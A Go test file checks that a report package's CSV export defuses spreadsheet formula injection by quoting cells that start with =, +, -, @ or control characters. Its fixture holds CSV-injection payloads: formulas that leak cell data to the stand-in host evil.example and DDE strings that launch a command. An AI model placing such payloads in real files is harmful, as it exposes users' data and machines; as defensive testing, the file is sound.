package report_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/tpu-autoheal/autoheal/internal/report"
)

// spreadsheetPayloads are records whose cause and acceleratorType carry the
// formulas a spreadsheet would run (OWASP's CSV-injection examples), and
// the control characters and plain values around them (and a zoneMovedTo
// that is one). Anyone who can write
// a log entry labelled as ours can put them in a record.
const spreadsheetPayloads = `{"timestamp":"2026-11-20T03:00:00Z","insertId":"e1","action":"record","node":"projects/p/locations/z/nodes/hyperlink","cause":"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")","acceleratorType":"+cmd|' /C calc'!A0"}
{"timestamp":"2026-11-20T03:01:00Z","insertId":"e2","action":"record","node":"projects/p/locations/z/nodes/sum","cause":"@SUM(1+1)","acceleratorType":"-2+3+cmd|' /C calc'!A0","zoneMovedTo":"=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")"}
{"timestamp":"2026-11-20T03:02:00Z","insertId":"e3","action":"record","node":"projects/p/locations/z/nodes/controls","cause":"\t=1+1","acceleratorType":"\r=1+1"}
{"timestamp":"2026-11-20T03:03:00Z","insertId":"e4","action":"record","node":"projects/p/locations/z/nodes/nul","cause":"\u0000=1+1","acceleratorType":"v4-8"}
{"timestamp":"2026-11-20T03:04:00Z","insertId":"e5","action":"record","node":"=cmd|' /C calc'!A0","cause":"-","acceleratorType":"-5"}
`

// TestCSVCellsThatASpreadsheetWouldRunAreText: every cell starting with
// = + - @, a tab, a carriage return or a NUL gets a leading single quote (a
// spreadsheet then shows it as text); a lone "-" and a plain number stay as
// they are, and so do the number columns. The bytes are checked, not a
// parse of them, since the bytes are what a spreadsheet opens.
func TestCSVCellsThatASpreadsheetWouldRunAreText(t *testing.T) {
	recs, err := report.ReadAll([]byte(spreadsheetPayloads))
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := report.WriteCSV(&b, report.Group(recs)); err != nil {
		t.Fatal(err)
	}
	got := strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n")
	want := []string{
		"node,zone,acceleratorType,chips,cause,start,detected,claimed,deleted,created,recovered,resumed,outcome,downtimeSeconds,lostProgressSeconds,chipHoursLost,zoneMovedTo",
		`projects/p/locations/z/nodes/hyperlink,,'+cmd|' /C calc'!A0,0,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",2026-11-20T03:00:00Z,2026-11-20T03:00:00Z,,,,2026-11-20T03:00:00Z,,recovered by itself,0,,0,`,
		`projects/p/locations/z/nodes/sum,,'-2+3+cmd|' /C calc'!A0,0,'@SUM(1+1),2026-11-20T03:01:00Z,2026-11-20T03:01:00Z,,,,2026-11-20T03:01:00Z,,recovered by itself,0,,0,"'=IMPORTXML(CONCAT(""http://evil.example/?"",A1),""//a"")"`,
		// A carriage return makes the csv package quote the cell: the
		// record spans two lines of the file.
		"projects/p/locations/z/nodes/controls,,\"'\r=1+1\",0,'\t=1+1,2026-11-20T03:02:00Z,2026-11-20T03:02:00Z,,,,2026-11-20T03:02:00Z,,recovered by itself,0,,0,",
		"projects/p/locations/z/nodes/nul,,v4-8,4,'\x00=1+1,2026-11-20T03:03:00Z,2026-11-20T03:03:00Z,,,,2026-11-20T03:03:00Z,,recovered by itself,0,,0,",
		`'=cmd|' /C calc'!A0,,-5,0,-,2026-11-20T03:04:00Z,2026-11-20T03:04:00Z,,,,2026-11-20T03:04:00Z,,recovered by itself,0,,0,`,
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("CSV bytes (-want +got):\n%s", diff)
	}

	// And no cell, once parsed as a spreadsheet would, starts a formula.
	rows, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v", err)
	}
	for i, row := range rows {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+@\t\r\x00", rune(cell[0])) {
				t.Errorf("row %d, column %s: cell %q starts a formula", i, report.CSVHeader[j], cell)
			}
		}
	}
}
